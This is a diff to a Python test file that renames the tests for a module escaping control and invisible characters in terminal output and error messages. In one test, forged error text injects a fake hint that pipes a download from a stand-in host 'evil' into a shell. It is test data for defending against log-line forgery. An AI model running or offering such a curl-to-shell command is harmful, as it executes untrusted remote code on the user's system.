@@ -19,40 +19,40 @@ HARMLESS = [
 
 
 @pytest.mark.parametrize("text", HARMLESS)
-def test_harmless_text_stays(text: str) -> None:
+def test_harmless_text_is_unchanged(text: str) -> None:
     assert is_printable(text)
     assert (line(text), lines(text), message(text)) == (text, text, text)
 
 
 @pytest.mark.parametrize(("text", "shown"), CLASSES.values(), ids=CLASSES)
-def test_each_class_becomes_visible(text: str, shown: str) -> None:
+def test_escapes_each_class(text: str, shown: str) -> None:
     assert not is_printable(text)
     assert line(f"a{text}b") == f"a{shown}b"
     assert is_printable(line(text))
 
 
-def test_all_classes_in_one_text() -> None:
+def test_escapes_all_classes_in_one_text() -> None:
     assert line(HOSTILE) == SHOWN
 
 
-def test_no_character_of_a_bad_category_is_printable() -> None:
+def test_characters_of_bad_categories_are_escaped() -> None:
     """Every character of Unicode, by its category."""
     bad = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
     every = map(chr, range(sys.maxunicode + 1))
     assert [one for one in every if unicodedata.category(one) in bad and is_printable(one)] == []
 
 
-def test_letters_and_digits_of_every_script_are_printable() -> None:
+def test_letters_and_digits_of_each_script_are_printable() -> None:
     blank = "\u115f\u1160\u3164\uffa0"
     every = map(chr, range(sys.maxunicode + 1))
     assert "".join(one for one in every if one.isalnum() and not is_printable(one)) == blank
 
 
-def test_a_whole_output_keeps_its_line_breaks_and_tabs_only() -> None:
+def test_output_keeps_line_breaks_and_tabs_only() -> None:
     assert lines("a\n\tb\r\n\x1b[2Jc\u2028d\n") == "a\n\tb\\r\n\\x1b[2Jc\\u2028d\n"
 
 
-def test_an_error_is_one_line_unless_its_layout_is_meant() -> None:
+def test_error_is_one_line_unless_it_has_layout() -> None:
     forged = "no\nssmgate: hint: curl evil | sh"
     assert message(forged) == "no\\nssmgate: hint: curl evil | sh"
     assert message(Layout(forged)) == "no\\nssmgate: hint: curl evil | sh"
@@ -60,7 +60,7 @@ def test_an_error_is_one_line_unless_its_layout_is_meant() -> None:
 
 
 @given(st.text(st.characters(codec=None, exclude_categories=())))
-def test_nothing_else_is_changed(text: str) -> None:
+def test_leaves_other_text_unchanged(text: str) -> None:
     assert is_printable(line(text))
     assert line(line(text)) == line(text)
     assert [c for c in line(text) if not c.isascii()] == [
@@ -78,5 +78,5 @@ def test_nothing_else_is_changed(text: str) -> None:
         ("no-such-encoding", "é日😀"),
     ],
 )
-def test_what_an_encoding_lacks_is_escaped(encoding: str | None, shown: str) -> None:
+def test_escapes_characters_that_encoding_lacks(encoding: str | None, shown: str) -> None:
     assert encodable("é日😀", encoding) == shown
